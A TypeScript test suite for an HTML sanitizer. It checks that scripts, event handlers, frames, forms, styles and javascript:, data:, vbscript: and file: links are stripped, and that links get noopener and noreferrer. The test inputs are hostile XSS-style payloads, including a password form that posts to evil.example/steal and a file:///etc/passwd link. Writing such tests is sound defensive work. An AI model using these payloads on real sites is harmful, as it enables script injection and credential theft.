import {expect} from '@open-wc/testing';
import {htmlToText, sanitizeHtml} from '../src/sanitize.js';

/** The sanitized HTML in a detached <div>, to query. */
function clean(html: string): HTMLDivElement {
  const div = document.createElement('div');
  div.append(sanitizeHtml(html));
  return div;
}

/** Every element name left, lower case. */
const tags = (div: Element) => [...div.querySelectorAll('*')].map((el) => el.localName);

/** The markup of the elements matching `selector`: text, which a failing assertion prints (a node it cannot). */
const found = (div: Element, selector: string) => [...div.querySelectorAll(selector)].map((el) => el.outerHTML);

describe('sanitizeHtml', () => {
  it('keeps formatting and drops scripts, handlers and dangerous links', () => {
    const div = clean(
      '<p onclick="alert(1)">Hello <strong>you</strong><script>alert(2)</script>' +
        '<img src=x onerror=alert(3)><a href="javascript:alert(4)">bad</a><a href="https://example.org">good</a></p>'
    );
    expect(found(div, 'script, img, [onclick]')).to.deep.equal([]);
    expect(div.querySelector('strong')!.textContent).to.equal('you');
    const links = [...div.querySelectorAll('a')];
    expect(links[0].hasAttribute('href')).to.equal(false);
    expect(links[1].getAttribute('href')).to.equal('https://example.org');
    expect(links[1].getAttribute('rel')).to.contain('noopener');
  });

  it('drops frames and embedded documents', () => {
    const div = clean(
      '<p>Before</p><iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.x=1</script>"></iframe>' +
        '<frameset><frame src="https://evil.example/"></frameset><object data="https://evil.example/x.swf"></object>' +
        '<embed src="https://evil.example/x.swf"><p>After</p>'
    );
    expect(tags(div)).to.deep.equal(['p', 'p']);
    expect(div.textContent).to.equal('BeforeAfter');
  });

  it('drops forms and their fields, keeping no way to send anything', () => {
    const div = clean(
      '<form action="https://evil.example/steal" method="post"><label>Password <input type="password" name="p"></label>' +
        '<select name="s"><option>a</option></select><textarea name="t"></textarea><button formaction="https://evil.example/">Send</button></form>' +
        '<p><input type="submit" form="x"></p>'
    );
    expect(tags(div).filter((tag) => tag !== 'p')).to.deep.equal([]);
    expect(found(div, '[action], [formaction], [name]')).to.deep.equal([]);
  });

  it('drops style sheets and style attributes', () => {
    const div = clean(
      '<p>Text</p><style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/x.css">' +
        '<p style="position: fixed; inset: 0; background: url(https://evil.example/track)">Over everything</p>' +
        '<svg><style>p { color: red }</style></svg>'
    );
    expect(tags(div)).to.deep.equal(['p', 'p']);
    expect(found(div, '[style]')).to.deep.equal([]);
    expect(div.textContent).not.to.contain('display');
  });

  it('keeps only web, mail and phone links: no data:, javascript:, vbscript: or file: ones', () => {
    const hostile = [
      'data:text/html,<script>alert(1)</script>',
      'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
      'DATA:text/html,x',
      ' data:image/svg+xml,<svg onload=alert(1)>',
      'javascript:alert(1)',
      'JaVaScRiPt:alert(1)',
      'vbscript:msgbox(1)',
      'file:///etc/passwd',
    ];
    const div = clean(hostile.map((href, i) => `<a href="${href.replace(/"/g, '&quot;')}">link ${i}</a>`).join(''));
    const links = [...div.querySelectorAll('a')];
    expect(links).to.have.length(hostile.length);
    expect(links.filter((a) => a.hasAttribute('href')).map((a) => a.getAttribute('href'))).to.deep.equal([]);
    const fine = clean('<a href="https://a.example/">w</a><a href="mailto:x@a.example">m</a><a href="tel:+33100000000">t</a>');
    expect([...fine.querySelectorAll('a')].map((a) => a.getAttribute('href'))).to.deep.equal([
      'https://a.example/',
      'mailto:x@a.example',
      'tel:+33100000000',
    ]);
  });

  it('opens every link in a new tab that cannot reach back to the page, whatever the upstream said', () => {
    const div = clean(
      '<a href="https://a.example/">plain</a>' +
        '<a href="https://a.example/" target="_blank">new tab</a>' +
        '<a href="https://a.example/" target="_blank" rel="opener">asks for the opener</a>' +
        '<a href="https://a.example/" target="_blank" rel="">empty rel</a>' +
        '<a href="https://a.example/" target="_self" rel="noopener">same tab</a>' +
        '<a href="https://a.example/" target="named-window">named window</a>' +
        '<a href="mailto:x@a.example">mail</a><a href="tel:+33100000000">phone</a><a>no href</a>'
    );
    const links = [...div.querySelectorAll('a')];
    expect(links).to.have.length(9);
    for (const a of links) {
      const rel = (a.getAttribute('rel') ?? '').split(/\s+/);
      expect(rel, `rel of "${a.textContent}"`).to.include('noopener').and.include('noreferrer').and.not.include('opener');
      expect(a.getAttribute('target'), `target of "${a.textContent}"`).to.equal('_blank');
    }
    // And the browser agrees: such a link gives the new page no opener.
    expect(links.every((a) => a.relList.contains('noopener'))).to.equal(true);
  });

  it('gives the plain text of an HTML field', () => {
    expect(htmlToText('<p>Aide  <b>aux</b>\n devoirs</p><script>x()</script>')).to.equal('Aide aux devoirs');
  });
});
